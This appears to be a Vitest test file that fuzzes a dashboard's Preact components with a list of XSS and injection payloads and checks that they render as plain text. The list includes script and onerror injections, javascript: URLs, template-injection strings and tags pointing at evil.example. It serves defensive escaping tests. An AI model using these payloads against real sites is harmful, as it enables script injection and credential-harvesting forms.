import { html, render } from 'htm/preact';
import type { ComponentChildren, VNode } from 'preact';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { Alerts } from '../../src/page/overview.ts';
import { Confirm, Foreign } from '../../src/page/pieces.ts';
import { ofAccount, Requests } from '../../src/page/requests.ts';
import { Rows } from '../../src/page/trail.ts';
import { Vms } from '../../src/page/vms.ts';
import { foreignLine } from '../../src/page/words.ts';
import { crowdOf } from '../support/page/crowd.ts';
import { openDocument } from './document.ts';
import { drawn } from './page-of.ts';

const crowd = { vms: 1, agents: 1, days: 1, requests: 1, words: String, now: Date.now() };

/** What would be more than text, if anything of it were taken for markup, an attribute, a template or a component. */
const nasty = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  "' onmouseover='alert(1)",
  '</td></table><h1>approved</h1>',
  '</script><script>alert(1)</script>',
  '<!--',
  '-->',
  ']]>',
  '&lt;b&gt; &amp; &#60;b&#62;',
  '$'.concat('{alert(1)}'),
  '{{constructor.constructor("alert(1)")()}}',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '<style>*{display:none}</style>',
  '<iframe src=//evil.example></iframe>',
  '<form action=//evil.example><input name=code>',
  '<base href=//evil.example>',
  '<a href=javascript:alert(1)>Approve</a>',
  '<meta http-equiv=refresh content=0>',
  '<template><b></template>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '\u202etxt.exe',
  'a\u200bb',
  '\u0000\u0007',
  '𝕬 ﷽ 👨‍👩‍👧‍👦 ä',
  'x'.repeat(5000),
];

/** A generator whose numbers are the same in each run. */
const numbers = (seed: number) => {
  let last = seed;
  return (): number => {
    last = (Math.imul(last, 1_664_525) + 1_013_904_223) >>> 0;
    return last;
  };
};

const names = (count: number): string[] => {
  const next = numbers(7);
  const pick = (): string => nasty[next() % nasty.length]!;
  const cut = (text: string): string => text.slice(next() % (text.length + 1));
  return Array.from({ length: count }, (_, n) => {
    if (n < nasty.length) return nasty[n]!;
    return Array.from({ length: 1 + (next() % 4) }, () => (next() % 3 === 0 ? cut(pick()) : pick())).join(next() % 2 === 0 ? '' : ' ');
  });
};

describe('words that are not ours', () => {
  let opened: ReturnType<typeof openDocument>;
  beforeAll(() => {
    opened = openDocument();
    for (const name of ['addEventListener', 'removeEventListener', 'dispatchEvent']) vi.stubGlobal(name, () => true);
  });
  afterAll(() => {
    vi.unstubAllGlobals();
    opened.close();
  });

  /** What stands there: each kind of element, and each attribute, with how many there are. */
  const shapeOf = (place: Element): Record<string, number> => {
    const found: Record<string, number> = {};
    const count = (name: string): void => {
      found[name] = (found[name] ?? 0) + 1;
    };
    for (const element of place.querySelectorAll('*')) {
      count(element.localName);
      for (const { name } of element.attributes) count(`${element.localName} ${name}`);
    }
    return found;
  };
  const account = 'a';
  const dialog = (name: string, n: number) =>
    html`<${Confirm} key=${n} does="Destroy" name=${name} of=${name} what=${`This ends ${name}.`} act=${() => {}}/>`;

  /** Rows of as many words each as there are names of fields. */
  const rowsOf = <Field extends string>(words: string[], ...fields: Field[]): Record<Field, string>[] =>
    Array.from(
      { length: words.length / fields.length },
      (_, n) => Object.fromEntries(fields.map((field, place) => [field, words[n * fields.length + place]])) as Record<Field, string>,
    );

  /** Each part of the page, with these words wherever somebody else's stand in it, or in what our own messages quote. */
  const parts: Record<string, (words: string[]) => ComponentChildren> = {
    Vms: (words) => {
      const rows = rowsOf(words, 'name', 'untrustedNodeName', 'task', 'agent', 'node');
      const { items, ...rest } = crowdOf({ ...crowd, vms: rows.length })['vm ls']!;
      return html`<${Vms} data=${{ ...rest, items: items.map((vm, n) => ({ ...vm, ...rows[n] })) }} problem=${words[0]}/>`;
    },
    Requests: (words) => {
      const rows = rowsOf(words, 'untrustedPurpose', 'what', 'agent', 'payer');
      const { items, ...rest } = crowdOf({ ...crowd, requests: rows.length })['approvals ls']!;
      const of = ofAccount({ ...rest, items: items.map((row, n) => ({ ...row, ...rows[n], account })) }, account);
      return html`<${Requests} approver="terminal" of=${of} problem=${words[0]}/>`;
    },
    Trail: (words) => {
      const [one] = crowdOf(crowd)['ledger ls']!.items;
      const rows = rowsOf(words, 'name', 'task', 'what', 'outcome').map((row, seq) => ({ ...one!, ...row, seq }));
      return html`<${Rows} of=${rows} caption=${words[0]}/>`;
    },
    Alerts: (words) => html`<${Alerts} warnings=${words.map((message, n) => ({ code: `CODE_${n}`, message }))}/>`,
    dialogs: (words) => words.map(dialog),
  };
  const shares = Object.keys(parts).length;

  /** Every text that is shown or read out, each once. */
  const textsOf = (node: Node, found = new Set<string>()): Set<string> => {
    for (const child of node.childNodes) {
      if (child.nodeType === 3) found.add(child.textContent!);
      else textsOf(child, found);
    }
    const label = (node as Element).getAttribute?.('aria-label');
    if (label != null) found.add(label);
    return found;
  };

  it.each(Object.keys(parts))(
    'of 10,000 a fifth in %s is text and nothing else: what stands there has the shape of plain words',
    async (name) => {
      const shown = async (words: string[]): Promise<HTMLElement> => {
        const place = opened.document.createElement('div');
        drawn(place, parts[name]!(words));
        if (name !== 'dialogs') return place;
        for (const button of place.querySelectorAll('button')) button.click();
        await vi.waitFor(() => expect(place.querySelectorAll('dialog[open]')).toHaveLength(words.length), { timeout: 60_000 });
        return place;
      };
      const all = names(10_000).filter((_, n) => n % shares === Object.keys(parts).indexOf(name));
      const place = await shown(all);
      const plain = all.map((word, n) => (word === '' ? '' : `word ${n}`));
      const other = await shown(plain);
      expect(shapeOf(place)).toEqual(shapeOf(other));
      // and they do stand there
      const texts = textsOf(place);
      const stands = (word: string): boolean =>
        [word, foreignLine(word), `Destroy ${word}, ${word}`, `${word} (protected)`, `, paid by ${word}`].some((text) => texts.has(text));
      expect(all.filter((word) => word !== '' && !stands(word))).toEqual([]);
      drawn(place, null);
      drawn(other, null);
    },
  );

  it('are one line of at most 160 characters, behind words that say whose they are', () => {
    const place = opened.document.createElement('div');
    render(html`<${Foreign} of="the agent says" text=${'approve\n\n\t this '.repeat(100)}/>` as VNode, place);
    expect(place.textContent).toMatch(/^the agent says: approve this approve/);
    expect(place.querySelector('q')!.textContent).toHaveLength(160);
    expect(place.textContent).not.toMatch(/[\n\t]/);
  });
});
